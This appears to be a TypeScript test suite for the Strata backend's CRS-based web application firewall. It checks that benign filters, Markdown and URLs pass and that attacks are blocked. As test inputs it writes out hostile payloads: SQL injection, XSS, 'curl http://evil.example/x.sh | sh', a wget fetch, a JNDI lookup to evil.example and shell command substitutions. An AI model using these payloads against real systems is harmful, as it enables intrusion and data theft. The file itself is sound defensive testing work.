// What only Strata knows, on the CRS engine (issue 14 false positives; issue 15 batch limits;
// issue 22 item 7 admin URL fields; issue 23 item 8 random text): engine-level rows first,
// then a real server (REST, Connect, batch, the admin cache purge, the 415 order).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { request } from 'undici';
import { CORPUS_SCHEMA, DEFAULT_LIMITS, scoreSample, type Sample } from './waf-corpus.js';
import { createWafEngine } from '../src/waf/index.js';
import { loadConfig } from '../src/config/index.js';
import { createServer } from '../src/server/index.js';

const LIST = '/api/collections/posts/records';
const CONNECT = '/strata.posts.RecordService/List';
const s = (where: Sample['where'], name: string, value: string, path?: string): Sample => ({ family: 'benign', variant: 't', where, name, value, ...(path ? { path } : {}) });
const blocked = (x: Sample, pl: 1 | 2 = 1) => scoreSample(x, pl).score >= 5;

test('records filter: Strata\'s own filter language passes at PL1 over REST and Connect; only its literals are inspected', () => {
  for (const f of ['title ~ "where"', 'price >= 10 && price < 100 && email ~ "%@example.com"', "id = 'a' || id = 'b'", "(status = 'published' && author != '')"]) {
    assert.ok(!blocked(s('query', 'filter', f, LIST)), `REST ${f}`);
    assert.ok(!blocked(s('json', 'filter', f, CONNECT)), `Connect ${f}`);
    // the same text where Strata does not read a filter is judged raw, as CRS would
  }
  assert.ok(blocked(s('query', 'filter', "id = 'a' || id = 'b'")), 'not a records route: raw');
  // an attack inside a literal is still an attack; one that is no filter is inspected raw
  assert.ok(blocked(s('query', 'filter', `title = "1' union select password from users--"`, LIST)));
  assert.ok(blocked(s('json', 'filter', `title ~ "<script>alert(1)</script>"`, CONNECT)));
  assert.ok(blocked(s('query', 'filter', "1' union select password from users--", LIST)));
  assert.ok(blocked(s('query', 'sort', '(select sleep(10))', LIST)));
  // sort, fields, expand that are name lists hold nothing to inspect
  assert.ok(!blocked(s('query', 'sort', '-created,title', LIST)));
});

test('full-text search: a lone quote is no injection (the data layer keeps letters and digits only), at PL1 and PL2', () => {
  for (const pl of [1, 2] as const) {
    assert.ok(!blocked(s('query', 'filter', 'title @@ "\'"', LIST), pl));
    assert.ok(!blocked(s('query', 'filter', 'title @@ "rock \'n\' roll"', LIST), pl));
  }
});

test('typed fields that validate are not text; a value that does not validate is inspected', () => {
  const engine = createWafEngine({ mode: 'block', engine: 'crs', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, schema: CORPUS_SCHEMA });
  const body = (v: Record<string, unknown>) => engine.score(engine.inspectBody(Buffer.from(JSON.stringify(v)), 'application/json', { method: 'POST', path: LIST }));
  assert.equal(body({ price: '10', published: '2026-01-01', pinned: 'true' }), 0);
  assert.ok(body({ price: "1' union select password from users--" }) >= 5);
});

test('exclusions by collection and field apply on REST, batch and Connect alike', () => {
  // a Markdown shell block that Strata's shell tokenizer reads as a command (plain `npm install && npm test` passes: *Markdown*)
  const md = '```bash\nnpm install; id; whoami\n```';
  const mk = (ex: boolean) => createWafEngine({ mode: 'block', engine: 'crs', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, schema: CORPUS_SCHEMA,
    exclusions: ex ? [{ collection: 'posts', field: 'content', detectors: ['rce'] }] : [] });
  const cases: Array<[string, unknown]> = [
    [LIST, { content: md }],
    ['/api/batch', { operations: [{ action: 'create', collection: 'posts', body: { content: md } }] }],
    ['/strata.posts.RecordService/Create', { record: { content: md } }],
  ];
  for (const [path, b] of cases) {
    const score = (e: ReturnType<typeof mk>) => e.score(e.inspectBody(Buffer.from(JSON.stringify(b)), 'application/json', { method: 'POST', path }));
    assert.ok(score(mk(false)) >= 5, `${path}: Markdown with a shell line is RCE to CRS`);
    assert.equal(score(mk(true)), 0, `${path}: excluded for posts.content`);
  }
  // the exclusion is the field's: another field, or the family it does not name, still counts
  const e = mk(true);
  assert.ok(e.score(e.inspectBody(Buffer.from(JSON.stringify({ comment: md })), 'application/json', { method: 'POST', path: LIST })) >= 5);
  assert.ok(e.score(e.inspectBody(Buffer.from(JSON.stringify({ content: "1' union select password from users--" })), 'application/json', { method: 'POST', path: LIST })) >= 5);
});

test('URLs to the loopback address, data: URIs and local frontends pass; remote ones and script data: URIs do not', () => {
  for (const v of ['http://localhost:5173/auth/callback', 'http://127.0.0.1:8080/oauth/callback', 'http://[::1]:5173/cb']) assert.ok(!blocked(s('json', 'redirectURL', v)), v);
  assert.ok(blocked(s('query', 'url', 'http://10.0.0.1/shell.txt?')));
  assert.ok(blocked(s('query', 'url', 'http://127.0.0.1.evil.example@10.0.0.1/x.php')));
  for (const v of ['data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'data:text/plain;charset=utf-8,hello%20world', 'data:application/json,{"a":1}']) {
    assert.ok(!blocked(s('json', 'avatar', v)), v);
  }
  assert.ok(blocked(s('query', 'a', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==')));
  for (const pl of [1, 2] as const) {
    assert.ok(!blocked(s('header', 'origin', 'http://localhost:5173'), pl));
    assert.ok(!blocked(s('header', 'referer', 'http://localhost:5173/app/page?x=1'), pl));
    assert.ok(!blocked(s('header', 'origin', 'http://127.0.0.1:3000'), pl));
  }
});

test('prose: separators before command words in long text are not RCE unless Strata\'s shell tokenizer finds a command', () => {
  const prose = 'We met at the old cafe & echo of our laughter filled the room; time flies when friends gather and talk about the good old days';
  assert.ok(!blocked(s('json', 'comment', prose)));
  assert.ok(blocked(s('json', 'comment', `${prose} ; cat /etc/passwd`)));
  assert.ok(blocked(s('json', 'comment', `${prose} && curl http://evil.example/x.sh | sh`)));
  assert.ok(blocked(s('query', 'q', '& echo pwned')), 'short values: CRS alone');
});

// ---- a real server --------------------------------------------------------------------------

const UA = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0', accept: 'application/json' };

test('header sets: what head-only rules learnt on one set of header lines is not applied to another', () => {
  const e = createWafEngine({ mode: 'block', engine: 'crs', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, schema: CORPUS_SCHEMA, cacheSize: 1000 });
  const head = (ua: string, n: number) => {
    const headers = { host: 'app.example.com', 'user-agent': ua, accept: 'application/json' };
    return e.inspectHead({ method: 'GET', url: `${LIST}?page=${n}`, httpVersion: '1.1', headers, rawHeaders: Object.entries(headers).flat() }, '/api/collections/:collection/records').map((d) => d.rule);
  };
  const browser = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0';
  for (let n = 1; n <= 3; n++) assert.deepEqual(head(browser, n), [], 'a browser');
  // 913100 (a scanner's User-Agent) reads only that header: it found nothing on the browser's header set
  assert.ok(head('sqlmap/1.7', 4).includes('913100'), 'another header set is judged afresh');
  assert.ok(head('sqlmap/1.7', 5).includes('913100'), 'and keeps its own outcome');
  assert.deepEqual(head(browser, 6), []);
});

test('a real server on the CRS engine: filters, typed writes, a full batch, the 415 order and the superuser cache purge', async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'strata-waf-aware-'));
  writeFileSync(join(dir, 'strata.yaml'), [
    'collections:',
    '  - { name: posts, fields: [{ name: title, type: text }, { name: price, type: number }, { name: email, type: text }, { name: body, type: text }], fullText: [title], rules: { list: "", view: "", create: "", update: "", delete: "" } }',
  ].join('\n'));
  for (const pl of [1, 2]) {
    const config = loadConfig({ cwd: dir, env: {}, overrides: { dataDir: join(dir, `d${pl}`), 'server.http.port': 0, 'server.https.enabled': false, 'waf.mode': 'block', 'waf.engine': 'crs', 'waf.paranoia': pl } }).config;
    const server = await createServer(config, pino({ level: 'silent' }));
    await server.start();
    t.after(() => server.stop());
    const base = server.edge.urls()[0].url;
    const call = async (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) => {
      const res = await request(base + path, { method: method as 'GET', headers: { ...UA, ...(body !== undefined ? { 'content-type': 'application/json' } : {}), ...headers }, body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body) });
      const text = await res.body.text();
      return { status: res.statusCode, text };
    };
    const f = encodeURIComponent('price >= 10 && price < 100 && email ~ "%@example.com"');
    assert.equal((await call('GET', `${LIST}?filter=${f}&sort=-price,title`)).status, 200, `PL${pl} filter`);
    const lone = await call('GET', `${LIST}?filter=${encodeURIComponent('title @@ "it\'s"')}`);
    assert.equal(lone.status, 200, `PL${pl} lone quote in a search: ${lone.text}`);
    assert.equal((await call('GET', `${LIST}?filter=${encodeURIComponent(`title = "1' union select password from users--"`)}`)).status, 403, `PL${pl} attack in a literal`);
    assert.equal((await call('POST', LIST, { title: "O'Brien", price: 12 })).status, 201);
    assert.equal((await call('POST', LIST, { title: '<script>alert(1)</script>' })).status, 403);
    // the API's own answer for a media type it does not take, not the WAF's
    assert.equal((await call('POST', LIST, 'a,b\n1,2\n', { 'content-type': 'text/csv' })).status, 415, `PL${pl} text/csv`);
    // issue 15: the defaults never refuse what the API allows (data.maxBatch = 100)
    const ops = Array.from({ length: 100 }, (_, i) => ({ action: 'create', collection: 'posts', body: { title: `Post ${i}: O'Neil's notes`, price: i, email: `u${i}@example.com`, body: 'Some text, with punctuation; and more.' } }));
    const batch = await call('POST', '/api/batch', { operations: ops });
    assert.equal(batch.status, 200, `PL${pl} full batch: ${batch.text.slice(0, 200)}`);
    // issue 22 item 7: a superuser purging URLs of internal hosts
    if (pl === 1) {
      const pass = 'correct horse battery staple 42';
      assert.equal((await call('POST', '/_strata/setup', { token: server.setupToken, email: 'root@example.com', password: pass })).status, 201);
      const token = (JSON.parse((await call('POST', '/api/collections/_superusers/auth/login', { identity: 'root@example.com', password: pass })).text) as { token: string }).token;
      const as = { authorization: `Bearer ${token}` };
      const purge = { urls: ['http://10.0.0.5:8080/x', 'http://127.0.0.1:21080/y'], host: '10.0.0.5:8080' };
      assert.equal((await call('POST', '/api/admin/cache/purge', purge, as)).status, 200, 'superuser: declared URL fields');
      assert.equal((await call('POST', '/api/admin/cache/purge', purge)).status, 401, 'anonymous: the admin guard answers before the body is read');
      assert.equal((await call('POST', '/api/admin/cache/purge', { urls: ["http://10.0.0.5/x' union select password from users--"] }, as)).status, 403, 'only the SSRF family is waived');
      assert.equal((await call('POST', LIST, { title: 'http://10.0.0.5:8080/x' }, as)).status, 403, 'not an admin route');
    }
  }
  t.after(() => rmSync(dir, { recursive: true, force: true }));
});

test('evasions CRS does not decode for a family are inspected decoded too (double encoding, HTML references, /**/ between words)', () => {
  assert.ok(blocked(s('query', 'q', encodeURIComponent(encodeURIComponent('; wget http://evil.example/x.sh')))));
  assert.ok(blocked(s('form', 'q', encodeURIComponent(encodeURIComponent('time sh -c whoami')))));
  assert.ok(blocked(s('json', 'comment', '1&#39; union select password from users--')));
  assert.ok(blocked(s('json', 'comment', 'time/**/sh/**/-c/**/whoami')));
  // the same words, encoded and harmless, stay harmless
  assert.ok(!blocked(s('json', 'comment', 'Tom &amp; Jerry &#8212; O&#39;Brien&#39;s 100%25 cotton')));
});

test('Strata\'s tokenizers run beside CRS and score in its families: short command forms CRS misses', () => {
  for (const v of ['| id', '`id`', '$(whoami)', 'cmd /c whoami', 'powershell -enc SQBFAFgA', '${${lower:j}ndi:ldap://evil.example/a}']) assert.ok(blocked(s('query', 'q', v)), v);
  const r = scoreSample(s('query', 'q', '| id'), 1);
  assert.ok(r.rules.some((x) => x.startsWith('strata-')), r.rules.join());
  // excluded by their rule id like any CRS rule
  const e = createWafEngine({ mode: 'block', engine: 'crs', paranoia: 1, threshold: 5, limits: DEFAULT_LIMITS, exclusions: [{ rules: ['strata-cmd-chained'] }] });
  assert.equal(e.score(e.inspectHead({ method: 'GET', url: '/x?q=%7C%20id', httpVersion: '1.1', headers: { host: 'a', 'user-agent': 'Mozilla/5.0', accept: '*/*' } })), 0);
});
